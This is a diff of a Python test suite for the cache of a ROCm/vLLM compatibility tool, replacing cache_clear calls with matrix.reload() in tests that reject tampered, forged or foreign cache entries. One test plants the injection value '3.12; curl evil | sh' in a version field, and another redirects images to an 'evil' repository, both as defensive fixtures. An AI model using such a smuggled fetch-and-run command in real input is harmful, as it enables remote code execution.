@@ -54,13 +54,13 @@ def _compiled_entries() -> list[Path]:
 @example(content=b'{"format": 1, "files": {"rocm.toml": [{"version": 1e999}]}}')
 @example(content=pickle.dumps(_Boom()))
 def test_compiled_matrix_cache_garbage(content: bytes) -> None:
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     assert cli(["check", "--gfx", "gfx942", "--quiet"]).code in (0, 1)  # writes the entry
     entries = sorted((resources.cache_dir() / "matrix").glob("*"))  # entries and stat indexes
     assert entries and {e.suffix for e in entries} <= {".msgpack", ".stat"}
     for entry in entries:
         entry.write_bytes(content)
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     o = cli(["check", "--gfx", "gfx942", "--quiet"])
     assert_clean(o)
     assert o.code in (0, 1), str(o)
@@ -77,7 +77,7 @@ def _edit_entry(entry: Path, edit: Callable[[dict[str, Any]], None]) -> None:
 
 def test_compiled_entry_with_altered_records_is_revalidated() -> None:
     """A hand-edited entry whose records would fail validation is a miss, not served."""
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     cli(["check", "--gfx", "gfx942", "--quiet"])
     (entry,) = _compiled_entries()
 
@@ -85,7 +85,7 @@ def test_compiled_entry_with_altered_records_is_revalidated() -> None:
         doc["wheels"][0]["python"] = ["3.12; curl evil | sh"]
 
     _edit_entry(entry, poison)
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     m = matrix.load()
     assert all(";" not in p for w in m.wheels for p in w.python)
 
@@ -93,7 +93,7 @@ def test_compiled_entry_with_altered_records_is_revalidated() -> None:
 def test_sealed_entry_of_the_wrong_types_is_a_miss() -> None:
     """Even an entry sealed with this user's key is decoded against the record types: a field of
     the wrong type (a Python list that is a number) makes it a miss, and the TOML is read again."""
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     first = matrix.load()
     (entry,) = _compiled_entries()
     _, _, payload = entry.read_bytes().partition(b"\n")
@@ -103,14 +103,14 @@ def test_sealed_entry_of_the_wrong_types_is_a_miss() -> None:
     key = matrix._seal_key()
     assert key is not None
     entry.write_bytes(matrix._seal(key, forged).encode() + b"\n" + forged)
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     assert matrix.load() == first
 
 
 def test_compiled_entry_with_valid_but_altered_records_is_not_served() -> None:
     """issue 24: an edited entry whose records are valid data (every image moved to another
     repository) must not be served: its seal no longer matches, so the TOML is read again."""
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     cli(["check", "--gfx", "gfx942", "--quiet"])
     (entry,) = _compiled_entries()
 
@@ -119,7 +119,7 @@ def test_compiled_entry_with_valid_but_altered_records_is_not_served() -> None:
             image["repo"] = "evil/vllm-openai-rocm"
 
     _edit_entry(entry, poison)
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     assert all(i.repo != "evil/vllm-openai-rocm" for i in matrix.load().images)
     o = cli(["image", "--gfx", "gfx942", "--gpus", "8", "--driver", "6.4.3"])
     assert o.code == 0, str(o)
@@ -131,11 +131,11 @@ def test_compiled_entry_from_another_machine_is_a_miss(
 ) -> None:
     """A cache dir restored from elsewhere (CI, a shared home) carries no key: its entries were
     sealed by another key and are never read; the data files are parsed instead."""
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     matrix.load()
     (entry,) = _compiled_entries()
     monkeypatch.setenv("ROCM_VLLM_DATA_DIR", str(tmp_path / "other-user"))
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     parsed: list[object] = []
     real = matrix.bounded.load_toml
 
@@ -147,7 +147,7 @@ def test_compiled_entry_from_another_machine_is_a_miss(
     matrix.load()
     assert parsed  # the entry sealed with the first key was not trusted
     assert entry.exists()
-    matrix._load_cached.cache_clear()
+    matrix.reload()
 
 
 @HOSTILE
@@ -251,7 +251,7 @@ def test_read_only_cache_dir_only_costs_speed(tmp_path: Path) -> None:
 
 def test_check_with_an_unusable_cache_dir(tmp_path: Path) -> None:
     blocker = write(tmp_path / "file", "x")
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     o = cli(
         ["check", "--gfx", "gfx942", "--quiet"], env={"ROCM_VLLM_CACHE_DIR": str(blocker / "cache")}
     )
@@ -289,7 +289,7 @@ def test_a_stat_index_pointing_elsewhere_is_a_miss() -> None:
     """The stat index (files' stat -> content key) is sealed like the entries: one edited to point
     at another entry this user's tool wrote (older data, say) is not followed; the content is
     hashed again and the right entry read."""
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     first = matrix.load()
     (index,) = sorted((resources.cache_dir() / "matrix").glob("*.stat"))
     (entry,) = _compiled_entries()
@@ -297,7 +297,7 @@ def test_a_stat_index_pointing_elsewhere_is_a_miss() -> None:
     decoy.write_bytes(entry.read_bytes())  # a sealed entry, under another content key
     seal, _ = index.read_text().split()
     index.write_text(f"{seal}\n{'0' * 32}\n")
-    matrix._load_cached.cache_clear()
+    matrix.reload()
     assert (
         matrix._compiled_path(resources.matrix_dir(), None, matrix._seal_key()) == entry
     )  # the forged index was not followed
